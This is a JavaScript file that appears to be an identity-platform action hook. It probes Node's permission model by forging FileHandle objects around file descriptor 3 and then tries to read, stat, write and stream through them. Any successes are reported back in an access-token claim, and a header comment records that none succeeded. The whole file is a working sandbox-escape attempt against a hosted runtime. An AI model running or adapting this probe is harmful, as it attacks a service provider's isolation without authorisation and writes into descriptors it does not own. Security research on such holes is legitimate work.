// outcome: completed; claim reached=[]; beside served
// The Node permission model's class of holes: whatever looks like a `FileHandle` is used as one (compare CVE-2023-32004).
const fs = require('node:fs')
const made = async () => {
  const handle = await fs.promises.open(__filename)
  const prototype = Object.getPrototypeOf(handle)
  const fields = Object.fromEntries(Object.getOwnPropertySymbols(handle).map((symbol) => [symbol.description, symbol]))
  const inner = { fd: 3, getAsyncId: () => 1, close: async () => {} }
  const fake = Object.create(prototype, {
    fd: { value: 3 },
    [fields.kFd]: { value: 3, writable: true },
    [fields.kRefs]: { value: 1, writable: true },
    [fields.kHandle]: { value: inner },
  })
  const all = { 'an object': fake, 'a heir': Object.create(handle, { fd: { value: 3 } }) }
  try {
    all['one of the class'] = new prototype.constructor(inner)
  } catch {
    // Refused.
  }
  for (const key of Reflect.ownKeys(prototype)) {
    if (key.description !== 'kDeserialize' && !String(key.description).includes('deserialize')) continue
    try {
      const another = await fs.promises.open(__filename)
      another[key]({ handle: inner })
      all['one received'] = another
    } catch {
      // Refused.
    }
  }
  return { all, prototype }
}
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const { all, prototype } = await made()
  const reached = []
  for (const [name, handle] of Object.entries(all)) {
    const uses = {
      'its stat': async () => !(await prototype.stat.call(handle)).isFile(),
      'its write': () => prototype.write.call(handle, Buffer.from('a frame')),
      readFile: async () => {
        const text = await fs.promises.readFile(handle, { encoding: 'utf8', signal: AbortSignal.timeout(50) })
        return text !== fs.readFileSync(__filename, 'utf8')
      },
      writeFile: async () => (await fs.promises.writeFile(handle, 'a frame')) ?? true,
      appendFile: async () => (await fs.promises.appendFile(handle, 'a frame')) ?? true,
      stream: () =>
        new Promise((resolve, reject) => {
          fs.createWriteStream('', { fd: handle })
            .on('error', reject)
            .write('a frame', (error) => resolve(!error))
        }),
    }
    for (const [use, run] of Object.entries(uses)) {
      try {
        if (await run()) reached.push(`${name}: ${use}`)
      } catch {
        // Refused.
      }
    }
  }
  api.accessToken.setCustomClaim('reached', reached)
}
